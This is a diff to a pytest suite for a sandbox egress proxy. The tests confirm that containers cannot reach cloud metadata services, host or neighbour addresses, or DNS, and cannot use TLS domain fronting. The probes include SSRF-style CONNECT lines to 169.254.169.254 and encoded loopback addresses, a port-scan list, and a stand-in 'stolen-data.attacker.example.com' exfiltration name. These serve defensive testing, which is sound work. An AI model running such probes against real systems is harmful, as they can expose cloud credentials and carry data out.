@@ -5,6 +5,7 @@ from __future__ import annotations
 import contextlib
 import socket
 import threading
+import time
 import uuid
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
@@ -13,12 +14,16 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
+from sandbox import policy
+from sandbox.egress import Gate
 from sandbox.engine import Engine
 from sandbox.environments import DockerSandbox
 from sandbox.errors import NetworkDenied, SetupFailed
+from sandbox.images.build import resolve
 from sandbox.networks import labelled
 from sandbox.reaper import remove_all
 from sandbox.spec import Plan, Step
+from sandbox.stream import Caps
 from tests.sandbox.conftest import CA_BUNDLE, PRIVATE_HOSTS, STATE
 from tests.sandbox.trees import tree
 
@@ -147,6 +152,8 @@ def test_ports_schemes_and_addresses_are_refused(sandbox: DockerSandbox, host_se
         "GET http://pypi.org/simple/ HTTP/1.1", "CONNECT 169.254.169.254:443 HTTP/1.1",
         "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1", f"GET http://172.17.0.1:{host_server}/ HTTP/1.1",
         "CONNECT 172.17.0.1:443 HTTP/1.1", "CONNECT metadata.google.internal:443 HTTP/1.1",
+        "CONNECT [::1]:443 HTTP/1.1", "CONNECT [fd00:ec2::254]:443 HTTP/1.1", "CONNECT 2130706433:443 HTTP/1.1",
+        "POST http://deb.debian.org/ HTTP/1.1",
         f"CONNECT localhost:{host_server} HTTP/1.1", "GET http://host.docker.internal/ HTTP/1.1",
     ]  # fmt: skip
     script = f"print(json.dumps([ask(head)[:12] for head in {asked!r}]), ask('CONNECT pypi.org:443 HTTP/1.1')[:12])"
@@ -155,30 +162,96 @@ def test_ports_schemes_and_addresses_are_refused(sandbox: DockerSandbox, host_se
     assert "] HTTP/1.1 200" in log
 
 
-def test_nothing_is_reached_past_the_proxy(sandbox: DockerSandbox, host_server: int, engine: Engine) -> None:
-    """No address answers directly: the internet's, the metadata service's, nor any of the host's own.
+@contextlib.contextmanager
+def neighbour(sandbox: DockerSandbox, engine: Engine) -> Iterator[tuple[str, Gate]]:
+    """Another set-up at the same time, which serves on all its addresses; its address and its gate."""
+    assert sandbox.egress is not None
+    labels = policy.Labels(sandbox.owner, uuid.uuid4().hex, "probe", "neighbour", time.time() + 600)
+    serve = ["/opt/heal/python", "-m", "http.server", "8000"]
+    with sandbox.egress.opened(labels) as gate:
+        settings = policy.probe_container(resolve("debian"), serve, gate.network.name, labels)
+        life = engine.begin(settings, Caps(4096, 4096, 4096, 1 << 20))
+        try:
+            container = engine.client().containers.get(life.id)
+            address = str(container.attrs["NetworkSettings"]["Networks"][gate.network.name]["IPAddress"])
+            knock = ["/opt/heal/python", "-c", f"import socket; socket.create_connection(('{address}', 8000), 5)"]
+            limit = time.monotonic() + 20
+            while container.exec_run(knock).exit_code and time.monotonic() < limit:
+                time.sleep(0.1)
+            assert container.exec_run(knock).exit_code == 0  # it does serve
+            yield address, gate
+        finally:
+            life.remove()
 
-    The host's service is asked on the network's gateway, on the engine's bridge, on the host's other addresses, with
-    the route and past it (by binding to the device), and through the proxy container's address on the bridge.
+
+def test_nothing_is_reached_past_the_proxy(sandbox: DockerSandbox, host_server: int, engine: Engine) -> None:
+    """No address answers directly: the internet's, the metadata service's, the host's own, nor a neighbour's.
+
+    The host's service is asked on the network's gateway, on the engine's bridge, on the host's other addresses; each
+    address with the route and past it (by binding to the device). A neighbour is asked itself and on its proxy's side.
     """
     assert sandbox.egress is not None
     proxy = engine.client().containers.get(sandbox.egress.proxy()).attrs["NetworkSettings"]["Networks"]["bridge"]
-    host = [str(proxy["Gateway"]), *own_addresses()]
-    targets = [(address, host_server) for address in host]
-    targets += [("1.1.1.1", 443), ("203.0.113.80", 443), ("169.254.169.254", 80), (str(proxy["IPAddress"]), 3128)]
-    script = DIRECT + (
-        "from concurrent.futures import ThreadPoolExecutor\n"
-        f"ways = [(*target, device) for target in {targets!r} for device in (None, b'eth0')]\n"
-        "with ThreadPoolExecutor(20) as pool:\n"
-        "    print('REACHED', [way for way, yes in zip(ways, pool.map(lambda way: reaches(*way), ways)) if yes])\n"
+    with neighbour(sandbox, engine) as (beside, gate):
+        hosts = [str(proxy["Gateway"]), gate.network.gateway, *own_addresses()]
+        targets = [(address, host_server) for address in hosts]
+        targets += [("1.1.1.1", 443), ("203.0.113.80", 443), ("169.254.169.254", 80), ("fd00:ec2::254", 80)]
+        targets += [(str(proxy["IPAddress"]), 3128), (gate.network.proxy, 3128), (beside, 8000)]
+        script = DIRECT + (
+            "import ipaddress\n"
+            "from pathlib import Path\n"
+            "from concurrent.futures import ThreadPoolExecutor\n"
+            "own = ipaddress.ip_interface(socket.gethostbyname(socket.gethostname()) + '/28').network\n"
+            f"targets = {targets!r} + [(str(own[1]), {host_server}), ('ff02::1%eth0', {host_server})]\n"
+            "ways = [(*target, device) for target in targets for device in (None, b'eth0')]\n"
+            "with ThreadPoolExecutor(20) as pool:\n"
+            "    print('REACHED', [way for way, yes in zip(ways, pool.map(lambda way: reaches(*way), ways)) if yes])\n"
+            "    ports = [*range(1, 3128), *range(3129, 4096), 5353, 6379, 8080, 9090, 10250]\n"
+            "    found = pool.map(lambda port: socket.socket().connect_ex((str(own[2]), port)), ports)\n"
+            "    print('OPEN', [port for port, error in zip(ports, found) if error == 0])\n"
+            "six = Path('/proc/net/if_inet6')\n"
+            "print('SIX', six.exists() and 'eth0' in six.read_text())\n"
+        )
+        log = look(sandbox, script)
+    assert "REACHED []" in log
+    assert "OPEN []" in log  # the proxy serves requests and nothing to manage it by
+    assert "SIX False" in log
+
+
+def test_a_tunnel_is_for_the_host_that_it_names(sandbox: DockerSandbox) -> None:
+    """TLS through a tunnel works for the host that was asked for, and for no other behind the same address; the log
+    tells which was meant."""
+    script = (
+        PROXIED
+        + """
+import ssl
+def tls(host, name):
+    with socket.create_connection((proxy.hostname, proxy.port), 5) as asked:
+        asked.settimeout(20)
+        asked.sendall(f"CONNECT {host}:443 HTTP/1.1\\r\\n\\r\\n".encode())
+        asked.recv(4096)
+        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+        context.check_hostname = name is not None
+        try:
+            return context.wrap_socket(asked, server_hostname=name).version()
+        except ssl.SSLError as error:
+            return error.reason
+print("SAME", tls("pypi.org", "pypi.org"))
+print("FRONTED", tls("pypi.org", "files.pythonhosted.org"))
+print("UNNAMED", tls("pypi.org", None))
+"""
     )
-    assert "REACHED []" in look(sandbox, script)
+    log = look(sandbox, script)
+    assert "SAME TLSv1" in log
+    assert "FRONTED TLSV1_UNRECOGNIZED_NAME" in log
+    assert "UNNAMED TLSV1_UNRECOGNIZED_NAME" in log
+    assert "refused: pypi.org (its TLS is for files.pythonhosted.org)" in log
 
 
 def test_names_do_not_resolve_inside(sandbox: DockerSandbox) -> None:
     """No name is looked up for set-up, so no name can carry anything out: neither listed hosts' nor made-up ones."""
     script = """
-import socket
+import ipaddress, socket
 for name in ("pypi.org", "stolen-data.attacker.example.com"):
     try:
         print("RESOLVED", name, socket.getaddrinfo(name, 443))
@@ -192,10 +265,20 @@ with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
         print("ANSWERS", asking.recv(512)[6:8])
     except OSError:
         print("ANSWERS none")
+own = ipaddress.ip_interface(socket.gethostbyname(socket.gethostname()) + "/28").network
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
+    asking.settimeout(1)
+    for address in (own[1], own[2]):
+        asking.sendto(question, (str(address), 53))
+        try:
+            print("TUNNEL", asking.recvfrom(512))
+        except OSError:
+            print("NO TUNNEL")
 """
     log = look(sandbox, script)
     assert log.count("UNKNOWN") == 2, log
     assert "ANSWERS none" in log or "ANSWERS b'\\x00\\x00'" in log
+    assert log.count("NO TUNNEL") == 2, log
 
 
 def test_garbage_does_not_end_the_proxy(sandbox: DockerSandbox) -> None:
